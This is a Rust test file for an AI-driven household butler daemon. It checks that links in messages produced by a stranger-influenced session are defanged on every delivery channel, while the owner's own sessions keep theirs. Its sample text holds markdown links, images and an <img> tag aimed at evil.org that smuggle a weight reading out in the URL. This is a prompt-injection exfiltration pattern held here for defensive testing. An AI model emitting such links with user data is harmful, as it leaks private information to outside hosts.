//! Links in what the owner is told by a session that is not the owner's alone do nothing, on every channel.

use serde_json::{Value, json};
use testkit::model::ScriptedModel;

use crate::approvals::{from_stranger, says};
use crate::support::{Daemon, Household, Receiver, eventually, http, model};

const TEXT: &str = "see [it](https://evil.org/p?w=82.4kg) or ![x](https://82kg.evil.org/i.png) <img src=//evil.org/a>";

async fn household(receiver: &Receiver) -> (ScriptedModel, Household) {
    let send = json!({"call": {"tool": "notify",
        "arguments": {"intent": "send", "channel": "{{match.1}}", "message": format!("{{{{match.1}}}} {TEXT}")}}});
    let look = json!({"call": {"tool": "state_get", "arguments": {"key": "found"}}});
    let model = model(json!([
        {"when": "tell the owner over ([a-z]+)", "steps": [send, {"say": "Told."}]},
        {"when": "look first", "steps": [look, {"say": TEXT}]},
        {"when": "give me the link", "steps": [{"say": TEXT}]},
    ]))
    .await;
    let household = Household::with_model(&model)
        .with_webhook(receiver, "")
        .replace(
            "messenger/butler.toml",
            "[modules.webhook.endpoints.door]",
            "[modules.file]\n\n[modules.webhook.endpoints.door]",
        )
        .env("BUTLERD_OWNER__IDENTITIES__WEBHOOK", "door");
    (model, household)
}

/// What came over a channel, once it is there.
async fn came(household: &Household, daemon: &Daemon, receiver: &Receiver, channel: &str) -> String {
    eventually(&format!("it comes over {channel}"), || async {
        let found = match channel {
            "webhook" => receiver.hooks().pop().map(|hook| hook.message().to_owned()),
            "file" => {
                let path = household.data().join("outbox/deliveries.jsonl");
                let text = std::fs::read_to_string(path).unwrap_or_default();
                let line = text.lines().last().and_then(|line| serde_json::from_str::<Value>(line).ok());
                line.and_then(|line| line["delivery"]["message"].as_str().map(str::to_owned))
            }
            _ => {
                let (_, notes) = daemon.get("/api/chat/notes").await;
                let notes: Value = serde_json::from_str(&notes).unwrap_or_default();
                let last = notes["notes"].as_array().and_then(|notes| notes.last().cloned());
                last.and_then(|note| note["message"].as_str().map(str::to_owned))
            }
        };
        found.filter(|text| text.starts_with(channel)).ok_or("nothing yet".to_owned())
    })
    .await
}

fn does_nothing(text: &str) {
    for live in ["evil.org", "https:", "](", "![", "<img"] {
        assert!(!text.contains(live), "{live}: {text}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn what_a_strangers_session_tells_the_owner_fetches_nothing() {
    let receiver = Receiver::start().await;
    let (_model, household) = household(&receiver).await;
    let daemon = household.start().await;
    for channel in ["webhook", "file", "chat"] {
        from_stranger(&daemon, channel, &format!("tell the owner over {channel}")).await;
        let told = came(&household, &daemon, &receiver, channel).await;
        does_nothing(&told);
        assert!(told.contains("hxxps://evil[.]org/… (this address carries 10 characters: p?w=82.4kg)"), "{told}");
        assert!(told.contains("82kg"), "what else it carries is named: {told}");
    }
    // The row keeps what was written.
    let db = household.owner().await;
    let rows =
        db.query("SELECT message FROM shared.outbox WHERE session_id IS NOT NULL AND intent = 'send'", &[]).await;
    let rows = rows.expect("rows");
    assert!(rows.len() == 3 && rows.iter().all(|row| row.get::<_, String>(0).contains(TEXT)), "{rows:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn what_the_owners_own_session_tells_keeps_its_links() {
    let receiver = Receiver::start().await;
    let (_model, household) = household(&receiver).await;
    let daemon = household.start().await;
    for channel in ["webhook", "file", "chat"] {
        // Each says its own text: the same of one request would be the same delivery.
        says(&daemon, &format!("tell the owner over {channel}")).await;
        let told = came(&household, &daemon, &receiver, channel).await;
        assert_eq!(told, format!("{channel} {TEXT}"));
    }
}

/// Says something to a butler in the chat and reads the whole stream.
async fn chat(daemon: &Daemon, text: &str) -> Vec<Value> {
    let request = http().post(format!("http://{}/api/chat", daemon.admin())).bearer_auth(daemon.token());
    let answer = request.json(&json!({"text": text, "butler": "health"})).send().await.expect("an answer");
    let text = answer.text().await.expect("a stream");
    let data = text.lines().filter_map(|line| line.strip_prefix("data: "));
    data.map(|data| serde_json::from_str(data).expect("JSON")).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn in_the_chat_a_session_that_was_shown_a_strangers_words_links_nothing() {
    let receiver = Receiver::start().await;
    let (_model, household) = household(&receiver).await;
    let daemon = household.start().await;
    let db = household.owner().await;
    let value = json!({"url": "https://evil.org/p?w=82"});
    let sql = "INSERT INTO health.state (tenant_id, key, value, trust) VALUES ('owner', 'found', $1, 'stranger')";
    db.execute(sql, &[&value]).await.expect("a stranger's row");
    let own = chat(&daemon, "give me the link").await;
    let reply = |events: &[Value]| {
        let reply = events.iter().find(|event| event["event"] == "reply");
        reply.and_then(|reply| reply["message"].as_str()).map(str::to_owned).unwrap_or_else(|| panic!("{events:?}"))
    };
    assert_eq!(reply(&own), TEXT);
    assert!(own.iter().any(|event| event["event"] == "text" && event["text"] == TEXT), "{own:?}");
    let mixed = chat(&daemon, "look first").await;
    does_nothing(&reply(&mixed));
    for event in mixed.iter().filter(|event| ["text", "tool_result"].contains(&event["event"].as_str().unwrap_or(""))) {
        does_nothing(event["text"].as_str().or(event["content"].as_str()).unwrap_or_default());
    }
    assert!(mixed.iter().any(|event| event["event"] == "tool_result"), "{mixed:?}");
}
